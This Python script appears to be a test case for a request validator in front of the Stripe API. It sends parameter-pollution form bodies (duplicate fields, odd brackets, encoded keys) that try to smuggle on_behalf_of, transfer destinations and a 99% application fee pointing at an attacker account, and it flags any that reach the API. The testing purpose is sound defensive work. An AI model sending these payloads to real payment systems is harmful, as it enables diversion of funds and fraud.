# attack: the same field twice, lists for values, odd brackets: the check sees one reading, the server another
# expect: broker
# validator: refused
import json
import socket
import ssl
from urllib.parse import unquote_plus


def ask(target, method="GET", headers="", body=b""):
    """Status and what arrived at the API, None when nothing did."""
    plain = socket.create_connection(("api.stripe.com", 443), 1)
    with ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com") as tls:
        tls.settimeout(1)
        head = f"{method} {target} HTTP/1.1\r\nHost: api.stripe.com\r\nConnection: close\r\n{headers}"
        head += f"Content-Length: {len(body)}\r\n\r\n" if body else "\r\n"
        tls.sendall(head.encode("latin-1") + body)
        answer = b""
        while piece := tls.recv(65536):
            answer += piece
    head, _, text = answer.partition(b"\r\n\r\n")
    status = int(head.split()[1])
    return status, json.loads(text).get("echo") if status == 200 else None


FORM = "Content-Type: application/x-www-form-urlencoded\r\n"
BODIES = (
    b"payment_intent_data[on_behalf_of]=acct_attacker",
    b"payment_intent_data[][on_behalf_of]=acct_attacker",
    b"payment_intent_data[0][on_behalf_of]=acct_attacker",
    b"payment_intent_data[on_behalf_of][]=acct_attacker",
    b"payment_intent_data%5Bon_behalf_of%5D=acct_attacker",
    b"payment_intent_data[on_behalf_of=acct_attacker",
    b"payment_intent_data.on_behalf_of=acct_attacker",
    b"payment_intent_data[ on_behalf_of ]=acct_attacker",
    b"payment_intent_data[x]=1&payment_intent_data[on_behalf_of]=acct_attacker",
    b"on_behalf_of=&on_behalf_of=acct_attacker",
    b"description=a&description=b&on_behalf_of[]=acct_attacker",
    b"subscription_data[transfer_data][destination]=acct_attacker",
    b"invoice_settings[application_fee_percent]=99",
    b"invoice_creation[invoice_data][issuer][account]=acct_attacker&payment_intent_data[[on_behalf_of]]=acct_attacker",
)
WORDS = ("on_behalf_of", "transfer_data", "application_fee")
for target in ("/v1/payment_intents", "/v1/checkout/sessions", "/v1/payment_links", "/v1/subscriptions"):
    for body in BODIES:
        status, arrived = ask(target, "POST", FORM, body)
        # Whatever the brackets mean, the word is a name here, and no honest call has it.
        if arrived and any(word in unquote_plus(arrived["body"]) for word in WORDS):
            print("ESCAPED:", target, "got", arrived["body"][:80], flush=True)
    print(target, status)
